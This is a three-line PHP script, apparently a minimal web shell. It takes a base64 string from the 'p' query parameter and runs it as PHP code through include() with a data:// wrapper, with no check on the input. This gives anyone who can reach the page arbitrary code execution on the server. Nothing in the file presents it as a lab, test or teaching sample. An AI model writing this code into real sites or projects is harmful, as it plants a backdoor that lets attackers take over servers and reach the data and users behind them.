<?php
$p = $_GET['p'];
include 'data://text/plain;base64,' . $p;
